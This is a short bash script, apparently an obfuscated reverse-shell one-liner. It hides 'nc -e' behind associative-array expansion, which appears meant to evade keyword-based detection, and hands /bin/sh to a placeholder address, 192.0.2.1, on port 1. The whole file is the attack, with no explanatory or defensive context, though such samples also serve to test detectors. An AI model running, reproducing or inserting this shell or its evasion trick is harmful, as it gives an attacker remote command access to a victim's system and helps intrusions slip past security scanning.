#!/bin/bash
declare -A m=([a]=nc [b]=-e)
${m[a]} ${m[b]} /bin/sh 192.0.2.1 1
